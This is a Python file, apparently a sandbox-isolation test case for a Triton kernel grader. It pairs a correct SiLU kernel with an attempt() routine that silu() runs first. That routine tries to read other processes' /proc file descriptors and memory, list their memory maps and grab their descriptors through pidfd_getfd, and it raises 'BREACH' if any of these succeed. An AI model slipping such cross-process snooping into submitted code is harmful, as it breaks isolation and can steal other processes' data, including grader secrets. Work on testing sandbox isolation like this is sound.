# It looks for the process that has the data: its descriptors, its memory, its shared pages. | silu/triton | passed | sandbox=passed
import contextlib
import ctypes
import os


import triton
import triton.language as tl

@triton.jit
def silu_kernel(x_ptr, out_ptr, n_elements, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n_elements
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    tl.store(out_ptr + offs, x / (1.0 + tl.exp(-x)), mask=mask)


def honest(x, out):
    silu_kernel[(triton.cdiv(x.numel(), 2048),)](x, out, x.numel(), BLOCK=2048)

def others():
    """Every process that can be named but this one, whether it can be seen or not."""
    own = os.getpid()
    for number in {*range(max(1, own - 40), own + 40), *range(1, 40), os.getppid()} - {own}:
        yield number


def attempt():
    libc = ctypes.CDLL(None, use_errno=True)
    for number in others():
        with contextlib.suppress(OSError):
            names = os.listdir(f"/proc/{number}/fd")
            for name in names:
                target = os.readlink(f"/proc/{number}/fd/{name}")
                if "memfd" in target or "socket" in target:
                    with open(f"/proc/{number}/fd/{name}", "rb") as file:
                        raise RuntimeError(f"BREACH: read {target} {file.read(4)}")
        with contextlib.suppress(OSError):
            with open(f"/proc/{number}/mem", "rb"):
                raise RuntimeError(f"BREACH: opened the memory of {number}")
        with contextlib.suppress(OSError):
            if os.listdir(f"/proc/{number}/map_files"):
                raise RuntimeError(f"BREACH: listed the maps of {number}")
        with contextlib.suppress(OSError):
            descriptor = os.pidfd_open(number)
            for fd in range(64):
                if libc.syscall(438, descriptor, fd, 0) >= 0:
                    raise RuntimeError(f"BREACH: took descriptor {fd} of {number}")
            os.close(descriptor)


def silu(x, out):
    attempt()
    honest(x, out)
